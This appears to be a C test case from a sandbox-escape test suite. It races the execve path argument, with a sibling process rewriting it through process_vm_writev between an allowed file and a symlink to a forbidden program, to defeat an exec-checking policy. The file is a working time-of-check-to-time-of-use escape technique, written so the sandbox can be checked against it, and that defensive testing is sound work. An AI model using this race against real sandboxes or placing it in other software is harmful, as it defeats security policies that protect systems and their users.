// escape: another process writes the path by process_vm_writev
// group: argument races
// policy: exec
// neighbour: exec_plain --neighbour
// attempts: 1500
#include "escape.h"

static char path[] = "/tmp/a";

static void attack(void) {
  if (symlink(GOOD, "/tmp/a") < 0 || symlink(forbidden(), "/tmp/b") < 0) broken("symlink");
  prctl(PR_SET_PTRACER, PR_SET_PTRACER_ANY);
  static char* arguments[] = {"prog", NULL};
  const pid_t caller = getpid();
  if (beside()) {
    struct iovec to = {path + 5, 1}, from[] = {{"b", 1}, {"a", 1}};
    for (int i = 0;; i = !i) process_vm_writev(caller, &from[i], 1, &to, 1, 0);
  }
  while (more()) {
    const pid_t child = vfork();  // with the same memory
    if (child == 0) {
      syscall(SYS_execve, path, arguments, no_environment);
      _exit(1);
    }
    waitpid(child, NULL, 0);
  }
}
